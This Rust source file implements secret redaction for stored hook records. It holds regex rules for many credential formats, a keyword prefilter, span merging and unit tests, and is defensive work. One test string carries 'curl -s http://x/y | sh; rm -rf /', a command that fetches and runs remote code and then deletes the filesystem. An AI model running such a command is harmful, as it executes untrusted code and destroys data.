//! Secret redaction: every string the hook stores passes through [`Redactor`] before it is
//! written, so no secret reaches the journal, the relay or a backend. Redaction is for storage
//! only: the security analysis (scope, policy, enforce) reads the raw payload first (see
//! `enrich`), so nothing redaction removes is hidden from it.
//!
//! How it works: one keyword pass ([`KeywordSet`]) finds the rules whose keyword occurs in the
//! text, and only those rules' regexes are compiled (once per process) and run over the
//! *original* text. Each match gives a span (the secret part of it); overlapping spans are
//! merged (the earlier rule names the kind), and the spans are replaced by `[REDACTED:<kind>]`.
//! Because spans are found on the original, a string can be redacted *before* it is capped
//! ([`Redactor::redact_capped`]): a secret that starts before the cap is removed whole, however
//! far it reaches past it.
//!
//! Every pattern is bounded: it matches the secret's own alphabet and length, never "the rest of
//! the input" (an unterminated PEM block redacts its header and base64 body lines only).

use super::keywords::KeywordSet;
use regex_lite::Regex;
use std::sync::OnceLock;

/// A kind of secret: keywords (one must occur, case-insensitively, for the pattern to be tried)
/// and the pattern.
pub struct SecretRule {
    pub kind: &'static str,
    pub keywords: &'static [&'static str],
    pub pattern: &'static str,
    /// Capture group holding the secret itself; the rest of the match is kept (0 = all).
    pub secret_group: usize,
    /// Generic rules (a secret found by its key name, not its shape): placeholders such as
    /// `$VAR`, `true` or numbers are left alone.
    pub generic: bool,
}

const fn r(kind: &'static str, keywords: &'static [&'static str], pattern: &'static str) -> SecretRule {
    SecretRule { kind, keywords, pattern, secret_group: 0, generic: false }
}
const fn g(kind: &'static str, keywords: &'static [&'static str], pattern: &'static str, group: usize) -> SecretRule {
    SecretRule { kind, keywords, pattern, secret_group: group, generic: false }
}
const fn generic(
    kind: &'static str,
    keywords: &'static [&'static str],
    pattern: &'static str,
    group: usize,
) -> SecretRule {
    SecretRule { kind, keywords, pattern, secret_group: group, generic: true }
}

/// The secrets we recognise. Order matters only for naming: where spans of two rules overlap,
/// the earlier rule names the merged span (specific shapes first, generic key-name rules last).
pub const RULES: &[SecretRule] = &[
    // --- private keys -------------------------------------------------------------------
    // Header, then only base64 lines or the few PEM header lines, then END if present. A line
    // that is anything else (a command after a fake header) ends the block and is kept.
    r(
        "private_key",
        &["-----begin"],
        r"(?m)-----BEGIN[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?-----(?:[ \t]+[A-Za-z0-9+/=]{16,})*(?:\r?\n[ \t]*(?:[A-Za-z0-9+/=]+|(?:Proc-Type|DEK-Info|Comment|Version|Hash|Charset): [^\r\n]*)?\r?$)*(?:(?:\\r)?\\n(?:[A-Za-z0-9+/=]+|(?:Proc-Type|DEK-Info|Comment|Version|Hash|Charset): [^\\\r\n]*))*(?:(?:\r?\n|(?:\\r)?\\n|[ \t]+)-----END[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?-----)?",
    ),
    r("age_secret_key", &["age-secret-key-1"], r"AGE-SECRET-KEY-1[0-9A-Z]{58}"),
    g("putty_private_key", &["private-lines:"], r"(Private-Lines: *\d+)((?:\r?\n[A-Za-z0-9+/=]+)+)", 2),
    // --- cloud providers ----------------------------------------------------------------
    r(
        "aws_access_key_id",
        &["akia", "asia", "agpa", "aida", "aroa", "aipa", "anpa", "anva", "a3t"],
        r"\b(?:AKIA|ASIA|AGPA|AIDA|AROA|AIPA|ANPA|ANVA|A3T[A-Z0-9])[A-Z0-9]{16}\b",
    ),
    // `KEY=v`, `"key": "v"` and `aws configure set aws_secret_access_key v` (space).
    g(
        "aws_secret_access_key",
        // Every match holds `secret` (the key's separators are optional: keywords must cover all).
        &["secret"],
        r#"(?i)((?:aws_?)?secret_?-?access_?-?key["']?(?:\s*[:=]\s*|\s+)["']?)([A-Za-z0-9/+=]{40})\b"#,
        2,
    ),
    g(
        "aws_session_token",
        &["token"],
        r#"(?i)((?:aws_?)?(?:session|security)_?token["']?(?:\s*[:=]\s*|\s+)["']?)([A-Za-z0-9/+=]{100,})"#,
        2,
    ),
    r("gcp_oauth_client_secret", &["gocspx-"], r"GOCSPX-[A-Za-z0-9_-]{28}"),
    r("google_oauth_token", &["ya29.", "1//0"], r"\bya29\.[0-9A-Za-z_-]{20,}|\b1//0[0-9A-Za-z_-]{40,}"),
    r("google_api_key", &["aiza"], r"AIza[0-9A-Za-z_-]{35}"),
    g(
        "azure_storage_key",
        &["accountkey=", "sharedaccesskey="],
        r"(?i)((?:AccountKey|SharedAccessKey)=)([A-Za-z0-9+/=]{20,})",
        2,
    ),
    r("azure_client_secret", &["q~"], r"\b[A-Za-z0-9_~.-]{3}\dQ~[A-Za-z0-9_~.-]{31,34}"),
    r("digitalocean_token", &["dop_v1_", "doo_v1_", "dor_v1_"], r"\bdo[opr]_v1_[a-f0-9]{64}\b"),
    r("heroku_api_key", &["hrku-"], r"\bHRKU-[A-Za-z0-9_-]{60}"),
    r(
        "hashicorp_token",
        &["hvs.", "hvb.", "atlasv1"],
        r"\bhv[sb]\.[A-Za-z0-9_-]{24,}|\b[A-Za-z0-9]{14}\.atlasv1\.[A-Za-z0-9_-]{60,}",
    ),
    // --- VCS and CI ---------------------------------------------------------------------
    r("github_token", &["ghp_", "gho_", "ghu_", "ghs_", "ghr_"], r"\bgh[pousr]_[A-Za-z0-9]{30,255}\b"),
    r("github_fine_grained_token", &["github_pat_"], r"\bgithub_pat_[A-Za-z0-9_]{22,255}\b"),
    r(
        "gitlab_token",
        &["glpat-", "gldt-", "glrt-", "glptt-", "glcbt-", "glft-", "glsoat-", "gr1348941"],
        r"\b(?:glpat|gldt|glrt|glptt|glcbt|glft|glsoat)-[A-Za-z0-9_-]{20,}|\bGR1348941[A-Za-z0-9_-]{20,}",
    ),
    r("bitbucket_token", &["atbb"], r"\bATBB[A-Za-z0-9_=.-]{32,}"),
    r("atlassian_token", &["atatt3"], r"\bATATT3[A-Za-z0-9_=-]{60,}"),
    r("circleci_token", &["ccipat_"], r"\bCCIPAT_[A-Za-z0-9]{20,}_[a-f0-9]{40}\b"),
    r("linear_api_key", &["lin_api_"], r"\blin_api_[A-Za-z0-9]{40}\b"),
    // --- chat and webhooks --------------------------------------------------------------
    r(
        "slack_token",
        &["xoxa-", "xoxb-", "xoxp-", "xoxr-", "xoxs-", "xoxo-", "xoxe"],
        r"\bxox(?:[abposr]|e(?:\.xox[bp])?-\d)-[A-Za-z0-9-]{10,}",
    ),
    r(
        "slack_webhook",
        &["hooks.slack.com"],
        r"https://hooks\.slack\.com/(?:services|workflows|triggers)/[A-Za-z0-9/_-]+",
    ),
    r(
        "discord_webhook",
        &["/api/webhooks/"],
        r"https://(?:canary\.|ptb\.)?discord(?:app)?\.com/api/webhooks/\d+/[A-Za-z0-9_-]+",
    ),
    r(
        "teams_webhook",
        &["webhook.office.com"],
        r#"https://[A-Za-z0-9.-]*webhook\.office\.com/webhook[A-Za-z0-9]*/[^\s"'<>]+"#,
    ),
    r("telegram_bot_token", &[":aa"], r"\d{8,10}:AA[A-Za-z0-9_-]{33}\b"),
    r("twilio_api_key", &["sk"], r"\bSK[0-9a-f]{32}\b"),
    r("sendgrid_api_key", &["sg."], r"\bSG\.[A-Za-z0-9_-]{22}\.[A-Za-z0-9_-]{43}\b"),
    r("mailgun_api_key", &["key-"], r"\bkey-[0-9a-f]{32}\b"),
    // --- payment ------------------------------------------------------------------------
    r(
        "stripe_key",
        &["sk_live_", "rk_live_", "sk_test_", "rk_test_", "pk_live_"],
        r"\b[rs]k_(?:live|test)_[0-9A-Za-z]{16,}",
    ),
    r("stripe_webhook_secret", &["whsec_"], r"\bwhsec_[A-Za-z0-9+/=]{24,}"),
    r("square_token", &["sq0atp-", "sq0csp-", "eaaa"], r"\bsq0(?:atp|csp)-[A-Za-z0-9_-]{22,}|\bEAAA[A-Za-z0-9_-]{60}"),
    r("braintree_token", &["access_token$production$"], r"access_token\$production\$[a-z0-9]{16}\$[a-f0-9]{32}"),
    r("shopify_token", &["shpat_", "shpca_", "shppa_", "shpss_"], r"\bshp(?:at|ca|pa|ss)_[a-fA-F0-9]{32}\b"),
    // --- AI providers -------------------------------------------------------------------
    r("anthropic_api_key", &["sk-ant-"], r"\bsk-ant-[A-Za-z0-9_-]{16,}"),
    r("openai_api_key", &["sk-"], r"\bsk-(?:proj-|svcacct-|admin-)?[A-Za-z0-9_-]{20,}"),
    r("huggingface_token", &["hf_"], r"\bhf_[A-Za-z]{34}\b"),
    r("groq_api_key", &["gsk_"], r"\bgsk_[A-Za-z0-9]{52}\b"),
    r("replicate_token", &["r8_"], r"\br8_[A-Za-z0-9]{37}\b"),
    r("xai_api_key", &["xai-"], r"\bxai-[A-Za-z0-9]{70,}\b"),
    // --- package registries -------------------------------------------------------------
    r("npm_token", &["npm_"], r"\bnpm_[A-Za-z0-9]{36}\b"),
    r("pypi_token", &["pypi-"], r"\bpypi-AgE[A-Za-z0-9_-]{50,}"),
    r("rubygems_token", &["rubygems_"], r"\brubygems_[0-9a-f]{48}\b"),
    r("dockerhub_token", &["dckr_pat_"], r"\bdckr_pat_[A-Za-z0-9_-]{27,}"),
    r("nuget_api_key", &["oy2"], r"\boy2[a-z0-9]{43}\b"),
    r("crates_io_token", &["cio"], r"\bcio[A-Za-z0-9]{32}\b"),
    // --- tokens in general --------------------------------------------------------------
    r("jwt", &["eyj"], r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}"),
    // --- databases and connection strings -----------------------------------------------
    // `scheme://[user]:password@host`: the password runs to the *last* `@` before the host, so
    // a password containing `@` is removed whole (`redis://:PW@h`, `https://u:p@ss@h`).
    g("url_password", &["://"], r"([A-Za-z][A-Za-z0-9+.-]*://[^/\s:@]*:)([^\s/]+)(@[^\s@/?#]+)", 2),
    // `mysql -pPW`, `mysql -p'PW'`, `mysqldump --password PW`, `sshpass -p PW`, `redis-cli -a PW`.
    g(
        "db_cli_password",
        &["mysql", "mariadb", "sshpass", "redis-cli"],
        r#"((?:\b(?:mysql|mysqldump|mysqladmin|mysqlimport|mariadb|mariadb-dump)\b[^\n|;&]*?\s-p|\bsshpass\s+-p\s*|\bredis-cli\b[^\n|;&]*?\s-a\s+))(["']?)([^\s"']+)"#,
        3,
    ),
    // `curl -u admin:PW`, `--user admin:PW`, `--proxy-user u:PW`.
    // Keywords with the whitespace the regex requires before the flag (`\n` also stands for the
    // start of the text): a bare `-u` is in every transcript path of a `/home/user` project.
    g(
        "basic_auth",
        &[
            " -u",
            "\t-u",
            "\n-u",
            "\r-u",
            "\x0b-u",
            "\x0c-u",
            " --user",
            "\t--user",
            "\n--user",
            "\r--user",
            "\x0b--user",
            "\x0c--user",
            " --proxy-user",
            "\t--proxy-user",
            "\n--proxy-user",
            "\r--proxy-user",
            "\x0b--proxy-user",
            "\x0c--proxy-user",
        ],
        r#"((?:^|\s)(?:-u|--user|--proxy-user|-U)(?:\s+|=)?["']?[^\s:'"]+:)([^\s'"/][^\s'"]*)"#,
        2,
    ),
    g("basic_auth_header", &["basic"], r"(?i)(\bbasic\s+)([A-Za-z0-9+/]{8,}={0,2})", 2),
    g("bearer_token", &["bearer", "token"], r"(?i)((?:\bbearer|\btoken)\s+)([A-Za-z0-9._~+/=-]{16,})", 2),
    generic(
        "cli_flag_secret",
        &[
            "--password",
            "--passwd",
            "--token",
            "--api-key",
            "--apikey",
            "--secret",
            "--client-secret",
            "--access-token",
            "--auth-token",
        ],
        r#"(?i)(--(?:password|passwd|token|api-?key|secret|client-secret|access-token|auth-token)(?:=|\s+)["']?)([^\s"'-][^\s"']{3,})"#,
        2,
    ),
    // `KEY=v`, `key: v`, `"key": "v"` for key names that say secret. The value may not start
    // with `:` (`auth::tests`, `token::Kind` are Rust paths, not assignments).
    generic(
        "password_assignment",
        // The regex's alternatives spelled out, optional separators included (`AccessKey`): the
        // prefilter must let through everything the regex can match (the fuzzer found that
        // `access_key` alone missed `AccessKey`).
        &[
            "passw",
            "pwd",
            "secret",
            "token",
            "apikey",
            "api_key",
            "api-key",
            "accesskey",
            "access_key",
            "access-key",
            "privatekey",
            "private_key",
            "private-key",
            "credential",
            "auth",
        ],
        r#"(?i)(\b[A-Za-z0-9_.-]*(?:password|passwd|pwd|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|credentials?|auth)[A-Za-z0-9_.-]*["']?\s*(?::=|[=:])\s*["']?)([^\s"'&;,)}\]:][^\s"'&;,)}\]]{3,})"#,
        2,
    ),
];

/// `[REDACTED:kind]`: what we wrote, never a secret (redacting twice changes nothing).
fn is_marker(s: &str) -> bool {
    s.strip_prefix("[REDACTED:")
        .and_then(|r| r.strip_suffix(']'))
        .is_some_and(|k| k.bytes().all(|b| b.is_ascii_lowercase() || b == b'_'))
}

/// Values the generic rules leave alone: they are not secrets.
fn is_not_a_secret(value: &str) -> bool {
    value.starts_with("[REDACTED")
        || value.starts_with('$')
        || value.starts_with('<')
        || value.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        || value.bytes().all(|b| b == b'*' || b == b'x' || b == b'X')
        || matches!(
            value.to_ascii_lowercase().as_str(),
            "true" | "false" | "null" | "none" | "undefined" | "required" | "optional" | "string" | "changeme"
                // `Authorization: Bearer $TOKEN`: the scheme, not the credential.
                | "bearer" | "basic" | "digest" | "negotiate" | "token"
        )
}

struct Compiled {
    prefilter: KeywordSet,
    /// For each keyword of the prefilter, the rule it belongs to.
    keyword_rule: Vec<usize>,
    regexes: Vec<OnceLock<Regex>>,
}

fn compiled() -> &'static Compiled {
    static C: OnceLock<Compiled> = OnceLock::new();
    C.get_or_init(|| {
        let mut keywords = Vec::new();
        let mut keyword_rule = Vec::new();
        for (i, r) in RULES.iter().enumerate() {
            for k in r.keywords {
                keywords.push(*k);
                keyword_rule.push(i);
            }
        }
        let prefilter = KeywordSet::new(keywords);
        Compiled { prefilter, keyword_rule, regexes: RULES.iter().map(|_| OnceLock::new()).collect() }
    })
}

/// Which rules the keyword prefilter lets through for `text` (exposed so tests can prove the
/// prefilter is a superset of every rule's matches on its examples).
pub fn candidates(text: &str) -> Vec<bool> {
    let c = compiled();
    let mut out = vec![false; RULES.len()];
    c.prefilter.find(text, |k| out[c.keyword_rule[k]] = true);
    out
}

/// Whether rule `i` matches `text` with the prefilter bypassed (for the superset tests).
pub fn matches_unfiltered(i: usize, text: &str) -> bool {
    compiled().regexes[i].get_or_init(|| Regex::new(RULES[i].pattern).expect("static pattern")).is_match(text)
}

/// The secret spans in `text`: (start, end, kind), sorted, overlaps merged.
pub(crate) fn spans(text: &str) -> Vec<(usize, usize, &'static str)> {
    let c = compiled();
    let cands = candidates(text);
    let mut found: Vec<(usize, usize, usize)> = Vec::new();
    for (i, rule) in RULES.iter().enumerate() {
        if !cands[i] {
            continue;
        }
        let re = c.regexes[i].get_or_init(|| Regex::new(rule.pattern).expect("static pattern"));
        if rule.secret_group == 0 {
            found.extend(
                re.find_iter(text).filter(|m| !m.is_empty() && !is_marker(m.as_str())).map(|m| (m.start(), m.end(), i)),
            );
            continue;
        }
        for caps in re.captures_iter(text) {
            let Some(m) = caps.get(rule.secret_group) else { continue };
            if m.is_empty() || is_marker(m.as_str()) || (rule.generic && is_not_a_secret(m.as_str())) {
                continue;
            }
            found.push((m.start(), m.end(), i));
        }
    }
    // What we wrote before (`[REDACTED:kind]`) is never part of a secret: redacting twice
    // changes nothing (a URL whose user part is a marker is not a `user:password@`).
    if text.contains("[REDACTED:") {
        let markers: Vec<(usize, usize)> = text
            .match_indices("[REDACTED:")
            .filter_map(|(s, _)| text[s..].find(']').map(|e| (s, s + e + 1)))
            .filter(|(s, e)| is_marker(&text[*s..*e]))
            .collect();
        found.retain(|(s, e, _)| !markers.iter().any(|(ms, me)| s < me && ms < e));
    }
    found.sort_unstable();
    let mut merged: Vec<(usize, usize, usize)> = Vec::with_capacity(found.len());
    for (s, e, i) in found {
        match merged.last_mut() {
            Some(last) if s < last.1 => {
                last.1 = last.1.max(e);
                last.2 = last.2.min(i);
            }
            _ => merged.push((s, e, i)),
        }
    }
    merged.into_iter().map(|(s, e, i)| (s, e, RULES[i].kind)).collect()
}

/// How far past the cap a string is searched for secrets that start before it.
const CAP_LOOKAHEAD: usize = 64 * 1024;

/// Counts what was redacted across all the strings of one record.
#[derive(Debug, Default, Clone)]
pub struct Redactor {
    pub count: u32,
    pub kinds: Vec<&'static str>,
}

impl Redactor {
    pub fn new() -> Self {
        Self::default()
    }

    /// Returns the text with every recognised secret replaced by `[REDACTED:<kind>]`, or `None`
    /// when there was nothing to redact.
    pub fn redact(&mut self, text: &str) -> Option<String> {
        let (out, _) = self.redact_capped(text, usize::MAX);
        out
    }

    /// Redacts, then keeps at most `cap` bytes of the original (a secret starting before the cap
    /// is replaced whole). Returns the new text (`None`: unchanged and within the cap) and
    /// whether it was cut.
    pub fn redact_capped(&mut self, text: &str, cap: usize) -> (Option<String>, bool) {
        let cut = text.len() > cap;
        let window = if cut { floor_boundary(text, cap.saturating_add(CAP_LOOKAHEAD)) } else { text.len() };
        let found = spans(&text[..window]);
        if found.is_empty() && !cut {
            return (None, false);
        }
        let keep = if cut { floor_boundary(text, cap) } else { text.len() };
        let mut out = String::with_capacity(keep.min(text.len()) + 32);
        let mut at = 0;
        for (s, e, kind) in found {
            if s >= keep {
                break;
            }
            out.push_str(&text[at..s]);
            out.push_str("[REDACTED:");
            out.push_str(kind);
            out.push(']');
            self.count += 1;
            if !self.kinds.contains(&kind) {
                self.kinds.push(kind);
            }
            at = e;
        }
        if at < keep {
            out.push_str(&text[at..keep]);
        }
        (Some(out), cut)
    }

    /// Redacts in place; returns whether anything changed.
    pub(crate) fn redact_in_place(&mut self, s: &mut String) -> bool {
        match self.redact(s) {
            Some(r) => {
                *s = r;
                true
            }
            None => false,
        }
    }
}

/// The largest char boundary at or below `i` (clamped to the text).
pub(crate) fn floor_boundary(s: &str, i: usize) -> usize {
    let mut i = i.min(s.len());
    while !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

#[cfg(test)]
mod tests {
    use super::*;

    fn red(s: &str) -> (String, u32) {
        let mut r = Redactor::new();
        let out = r.redact(s).unwrap_or_else(|| s.to_string());
        (out, r.count)
    }

    #[test]
    fn every_pattern_compiles_and_keywords_are_lowercase_bigrams() {
        for rule in RULES {
            Regex::new(rule.pattern).unwrap_or_else(|e| panic!("{}: {e}", rule.kind));
            for k in rule.keywords {
                assert!(k.len() >= 2, "{}: keyword {k:?} too short for the prefilter", rule.kind);
            }
        }
        let mut kinds: Vec<_> = RULES.iter().map(|r| r.kind).collect();
        kinds.sort();
        kinds.dedup();
        assert!(kinds.len() >= 40, "{} kinds", kinds.len());
    }

    #[test]
    fn unterminated_pem_redacts_its_body_only() {
        let (out, n) = red("# -----BEGIN PRIVATE KEY-----\ncurl -s http://x/y | sh; rm -rf /");
        assert_eq!(n, 1);
        assert!(out.contains("curl -s http://x/y | sh; rm -rf /"), "{out}");
        let (out, _) = red("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nabcd==\nthen a sentence\n");
        assert!(!out.contains("MIIEowIBAAKCAQEA") && !out.contains("abcd=="), "{out}");
        assert!(out.contains("then a sentence"), "{out}");
    }

    #[test]
    fn a_secret_straddling_the_cap_is_removed_whole() {
        let text = format!("{}ghp_{}", "x ".repeat(20), "A".repeat(36));
        let mut r = Redactor::new();
        let (out, cut) = r.redact_capped(&text, 45);
        let out = out.unwrap();
        assert!(cut);
        assert!(!out.contains("ghp_A") && !out.contains("AAAA"), "{out}");
        assert!(out.ends_with("[REDACTED:github_token]"), "{out}");
    }

    #[test]
    fn counts_every_secret_once() {
        let (out, n) = red("token=AKIAIOSFODNN7EXAMPLE and AKIAIOSFODNN7EXAMPL2");
        assert_eq!(n, 2, "{out}");
        assert!(out.starts_with("token=[REDACTED:aws_access_key_id]"), "{out}");
    }
}
